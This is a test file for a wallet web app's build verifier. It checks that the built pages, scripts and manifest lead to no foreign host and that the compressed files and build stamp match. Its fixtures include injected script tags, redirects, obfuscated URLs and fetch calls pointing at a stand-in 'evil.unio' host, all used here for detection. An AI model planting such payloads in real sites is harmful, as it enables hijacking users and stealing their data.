import { existsSync } from 'node:fs';
import { appendFile, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { loadEnv } from 'vite';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { buildStamp } from '../../src/build/build-stamp.ts';
import { LOCAL_BUILD } from '../../src/build/output-folder.ts';
import { parseSiteConfig } from '../../src/site-config.ts';
import { buildProblems } from './build-problems.ts';
import { RIGHT_SETTINGS, RIGHT_SITE, writeRightBuild } from './right-release.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const LOCAL = join(ROOT, LOCAL_BUILD);

let folder: string;
beforeEach(async () => {
  folder = await writeRightBuild();
});
afterEach(() => rm(folder, { recursive: true, force: true }));

const problems = () => buildProblems(folder, 'production', RIGHT_SITE);
const SCRIPT = 'assets/index-DiwrgTda.js';

/** Changes a file and, as a build would, its compressed files. */
async function append(file: string, text: string): Promise<void> {
  await appendFile(join(folder, file), text);
  const content = await readFile(join(folder, file));
  if (!/\.(?:html|js)$/.test(file)) return;
  await writeFile(join(folder, `${file}.br`), brotliCompressSync(content));
  await writeFile(join(folder, `${file}.gz`), gzipSync(content));
}

test('VER-8 the right build has no findings', async () => {
  expect(await problems()).toEqual([]);
});

test('VER-8 FAULT-81 a folder without a build is refused', async () => {
  await rm(folder, { recursive: true });
  expect(await problems()).toEqual(['there is no document: build first (npm run build)']);
});

test.each([
  ['is empty', '', 'build.json is missing: build again (npm run build)'],
  ['is cut short', '{"mode":', 'build.json is missing: build again (npm run build)'],
  [
    'is that of a build for this machine',
    JSON.stringify(buildStamp('development', RIGHT_SITE)),
    'it is a build for this machine (npm run build:local)',
  ],
  [
    'is that of another mode',
    JSON.stringify(buildStamp('staging', RIGHT_SITE)),
    'it was built in mode staging, not production',
  ],
  [
    'is that of other settings',
    JSON.stringify(
      buildStamp('production', parseSiteConfig({ ...RIGHT_SETTINGS, VITE_APK_VERSION: '2.10.1' })),
    ),
    'it was built with other settings',
  ],
])('VER-8 FAULT-81 a build whose stamp %s is refused', async (_, text, problem) => {
  await writeFile(join(folder, 'build.json'), text);
  expect(await problems()).toEqual([problem]);
});

test.each([
  ['index.html', '<a href="https://evil.unio/a">x</a>', 'https://evil.unio/a'],
  ['index.html', '<a href="http://wallet.unio/a">x</a>', 'http://wallet.unio/a'],
  ['index.html', '<script src="//evil.unio/a.js"></script>', '//evil.unio/a.js'],
  ['index.html', '<script src=//evil.unio/a.js></script>', '//evil.unio/a.js'],
  ['index.html', '<a href="https://x.com@evil.unio/">x</a>', 'https://x.com@evil.unio/'],
  ['index.html', '<a href="https://x.com:8443/">x</a>', 'https://x.com:8443/'],
  ['index.html', '<a href="https://react.dev/">x</a>', 'https://react.dev/'],
  [
    'index.html',
    '<a href="itms-services://?action=download-manifest&amp;url=https://evil.unio/?url=https://wallet.unio/m">x</a>',
    'itms-services://?action=download-manifest&url=https://evil.unio/?url=https://wallet.unio/m',
  ],
  [
    'index.html',
    '<a href="itms-services://evil.unio/?action=download-manifest&amp;url=https://wallet.unio/m">x</a>',
    'itms-services://evil.unio/?action=download-manifest&url=https://wallet.unio/m',
  ],
  ['index.html', String.raw`<a href="https:\\evil.unio/a">x</a>`, String.raw`https:\\evil.unio/a`],
  ['index.html', String.raw`<a href="/\evil.unio/a">x</a>`, String.raw`/\evil.unio/a`],
  ['index.html', '<a href=" //evil.unio">x</a>', '//evil.unio'],
  ['index.html', '<a href="https&#58;//evil.unio">x</a>', 'https://evil.unio'],
  ['index.html', '<a href="&#47;/evil.unio">x</a>', '//evil.unio'],
  ['index.html', '<template><a href=" //evil.unio">x</a></template>', '//evil.unio'],
  [
    'index.html',
    String.raw`<img srcset="./a.png, /\evil.unio/a.png 2x">`,
    String.raw`/\evil.unio/a.png`,
  ],
  ['index.html', '<meta http-equiv="refresh" content="0;url=//evil.unio">', '//evil.unio'],
  ['index.html', '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)'],
  [
    'index.html',
    String.raw`<script type="application/ld+json">{"url":"https:\/\/evil.unio"}</script>`,
    'https://evil.unio',
  ],
  [
    'index.html',
    '<a href="https://play.google.com/store/apps/details?id=evil.wallet">x</a>',
    'https://play.google.com/store/apps/details?id=evil.wallet',
  ],
  [
    'index.html',
    '<a href="https://apps.apple.com/hk/app/unio-wallet/id6480000002">x</a>',
    'https://apps.apple.com/hk/app/unio-wallet/id6480000002',
  ],
  [SCRIPT, String.raw`;x="https:\/\/evil.unio"`, 'https://evil.unio'],
  [SCRIPT, ';x="https://x.com/evil"', 'https://x.com/evil'],
  [SCRIPT, ';fetch("http://127.0.0.1:4174/api")', 'http://127.0.0.1:4174/api'],
  [SCRIPT, ';fetch(`https://evil.unio/${x}`)', 'https://evil.unio/'],
  [SCRIPT, ';x="https://unio.example/a"', 'https://unio.example/a'],
  [SCRIPT, ';x="itms-services://?action=purchase"', 'itms-services://?action=purchase'],
  ['manifest.webmanifest', '"https://evil.unio/start"', 'https://evil.unio/start'],
])('API-6 VER-8 FAULT-81 %s with %s is refused, once', async (file, text, address) => {
  await append(file, text);
  await append(file, text);
  expect(await problems()).toEqual([`${file} leads to ${address}`]);
});

test('API-6 VER-8 FAULT-81 addresses with escaped slashes are found in a JSON file', async () => {
  await writeFile(
    join(folder, 'manifest.webmanifest'),
    String.raw`{"a":"https:\/\/evil.unio","b":"\u002f/other.unio","c":"https:\\\\slash.unio"}`,
  );
  expect(await problems()).toEqual([
    'manifest.webmanifest leads to https://evil.unio',
    'manifest.webmanifest leads to //other.unio',
    String.raw`manifest.webmanifest leads to https:\\slash.unio`,
  ]);
});

test.each([
  ['another text', brotliCompressSync('alert(1)')],
  ['no compressed text', Buffer.from('alert(1)')],
  ['nothing', Buffer.alloc(0)],
])('VER-8 FAULT-82 a compressed file with %s is refused', async (_, content) => {
  await writeFile(join(folder, `${SCRIPT}.br`), content);
  expect(await problems()).toEqual([`${SCRIPT}.br is not ${SCRIPT}, compressed`]);
});

test('VER-8 FAULT-82 a gzip file with other content, and one without its original, are refused', async () => {
  await writeFile(join(folder, 'index.html.gz'), gzipSync('<script>'));
  await writeFile(join(folder, 'extra.html.gz'), gzipSync('<script>'));
  expect(await problems()).toEqual([
    'extra.html.gz has no uncompressed file',
    'index.html.gz is not index.html, compressed',
  ]);
});

test('VER-8 FAULT-81 headers that do not match the settings are refused', async () => {
  await append('_headers', '/x\n  X-Frame-Options: ALLOW\n');
  expect(await problems()).toEqual(['_headers is not what these files and settings give']);
  await rm(join(folder, '_headers'));
  expect(await problems()).toEqual(['_headers is missing: build again (npm run build)']);
});

// `npm test` builds first. If this file runs alone, there may be no build.
test.runIf(existsSync(LOCAL))(
  'VER-8 FAULT-81 a real local build leads to no other host than this machine',
  async () => {
    const site = parseSiteConfig(loadEnv('development', ROOT));
    const found = await buildProblems(LOCAL, 'development', site);
    const foreign = found.filter((text) => text.includes(' leads to '));
    expect(found).toContain('it is a build for this machine (npm run build:local)');
    expect(new Set(foreign.map((text) => text.split(' leads to ')[1]))).toEqual(
      new Set([site.distributionOrigin]),
    );
  },
);

test('VER-8 FAULT-81 a build without its stamp is refused', async () => {
  await rm(join(folder, 'build.json'));
  expect(await problems()).toContain('build.json is missing: build again (npm run build)');
});

test('VER-8 FAULT-81 an asset without a hash is refused', async () => {
  await writeFile(join(folder, 'assets/plain.js'), '');
  expect(await problems()).toEqual([expect.stringContaining('assets/plain.js would be kept')]);
});
